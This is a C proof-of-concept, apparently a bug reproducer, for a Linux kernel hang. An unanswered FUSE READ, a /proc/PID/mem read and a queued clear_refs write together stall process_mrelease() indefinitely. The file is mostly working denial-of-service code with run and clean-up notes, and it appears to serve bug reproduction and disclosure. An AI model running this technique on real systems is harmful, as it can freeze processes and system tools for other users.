// SPDX-License-Identifier: MIT OR Apache-2.0
// Kernel-level reproducer (no broker) for the indefinite in-place hold found
// on branch attack-inplace: a victim maps a file on a FUSE fs whose READ is
// never answered; a second process of the same uid reads /proc/VICTIM/mem
// there (GUP without FAULT_FLAG_ALLOW_RETRY: it keeps the victim's mmap
// read lock while it waits) and a second thread writes 5 to
// /proc/VICTIM/clear_refs (queues for the write lock). After SIGKILL the
// victim's process_mrelease() waits in mmap_read_lock_killable() behind
// that writer for as long as the FUSE server wants: forever here.
// Build: gcc -O2 -o fl fl.c -lpthread; run as root with /tmp/ai/mnt present.
// Clean-up: echo 1 > /sys/fs/fuse/connections/N/abort (the victim keeps
// /dev/fuse open, so killing the server is not enough). While it runs, ps
// and anything reading /proc/VICTIM/cmdline hang too (same lock).
#define _GNU_SOURCE
#include <sched.h>
#include <sys/mount.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <linux/fuse.h>
#include <fcntl.h>
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>
#include <time.h>
static int dev; static char *addr; static pid_t vpid;
static double now(){struct timespec t;clock_gettime(CLOCK_MONOTONIC,&t);return t.tv_sec+t.tv_nsec/1e9;}
static void rep(uint64_t u,int err,void*b,size_t n){char o[4096];struct fuse_out_header h={16+n,err,u};memcpy(o,&h,16);memcpy(o+16,b,n);write(dev,o,16+n);}
static void fill(struct fuse_attr*a,uint64_t ino){memset(a,0,sizeof*a);a->ino=ino;a->mode=ino==1?(S_IFDIR|0755):(S_IFREG|0644);a->nlink=1;a->size=ino==1?0:(1<<20);a->blksize=4096;}
static void serve(){static char buf[1<<21];for(;;){int n=read(dev,buf,sizeof buf);if(n<0){continue;}
 struct fuse_in_header*h=(void*)buf;char*b=buf+sizeof*h;
 switch(h->opcode){
 case FUSE_INIT:{struct fuse_init_in*i=(void*)b;struct fuse_init_out o={0};o.major=7;o.minor=31;o.max_readahead=i->max_readahead;o.max_background=16;o.congestion_threshold=12;o.max_write=4096;o.time_gran=1;o.max_pages=1;rep(h->unique,0,&o,sizeof o);break;}
 case FUSE_LOOKUP:{if(strcmp(b,"f")){rep(h->unique,-ENOENT,0,0);break;}struct fuse_entry_out o={0};o.nodeid=2;o.entry_valid=3600;o.attr_valid=3600;fill(&o.attr,2);rep(h->unique,0,&o,sizeof o);break;}
 case FUSE_GETATTR:{struct fuse_attr_out o={0};o.attr_valid=3600;fill(&o.attr,h->nodeid);rep(h->unique,0,&o,sizeof o);break;}
 case FUSE_OPEN:{struct fuse_open_out o={0};o.fh=1;rep(h->unique,0,&o,sizeof o);break;}
 case FUSE_READ: fprintf(stderr,"server: READ (never answered)\n");break;
 case FUSE_FLUSH: case FUSE_RELEASE: rep(h->unique,0,0,0);break;
 case FUSE_FORGET: case FUSE_BATCH_FORGET: case FUSE_INTERRUPT: break;
 default: rep(h->unique,-ENOSYS,0,0);}}}
static void*reader(void*x){char p[64];snprintf(p,64,"/proc/%d/mem",vpid);int fd=open(p,O_RDONLY);char c;fprintf(stderr,"holder: reading victim mem\n");int r=pread(fd,&c,1,(off_t)addr);fprintf(stderr,"holder: read returned %d\n",r);return 0;}
static void*writer(void*x){usleep(300000);char p[64];snprintf(p,64,"/proc/%d/clear_refs",vpid);int fd=open(p,O_WRONLY);fprintf(stderr,"holder: clear_refs 5 (write lock)\n");int r=write(fd,"5",1);fprintf(stderr,"holder: clear_refs returned %d\n",r);return 0;}
static void*mrel(void*x){int fd=*(int*)x;double t=now();int r=syscall(448,fd,0);fprintf(stderr,"process_mrelease returned %d after %.3f s\n",r,now()-t);exit(0);}
int main(){
 unshare(CLONE_NEWNS); mount(0,"/",0,MS_REC|MS_PRIVATE,0);
 dev=open("/dev/fuse",O_RDWR); char o[200]; snprintf(o,200,"fd=%d,rootmode=40000,user_id=0,group_id=0",dev);
 if(mount("x","/tmp/ai/mnt","fuse",MS_NOSUID|MS_NODEV,o)){perror("mount");return 1;}
 if(!fork()){serve();}
 int p[2];pipe(p);
 vpid=fork();
 if(!vpid){int fd=open("/tmp/ai/mnt/f",O_RDONLY);if(fd<0){perror("open");exit(1);}char*m=mmap(0,1<<20,PROT_READ,MAP_PRIVATE,fd,0);write(p[1],&m,sizeof m);pause();}
 read(p[0],&addr,sizeof addr);
 if(!fork()){pthread_t a,b;pthread_create(&a,0,reader,0);pthread_create(&b,0,writer,0);pause();}
 sleep(1);
 int fd=syscall(SYS_pidfd_open,vpid,0);
 syscall(SYS_pidfd_send_signal,fd,9,0,0);
 fprintf(stderr,"main: SIGKILL sent, calling process_mrelease\n");
 pthread_t t;pthread_create(&t,0,mrel,&fd);
 sleep(5);
 char cmd[100];snprintf(cmd,100,"cat /proc/%d/stat | cut -d' ' -f1-3",vpid);system(cmd);
 fprintf(stderr,"process_mrelease still blocked after 5 s\n");
 return 2;
}
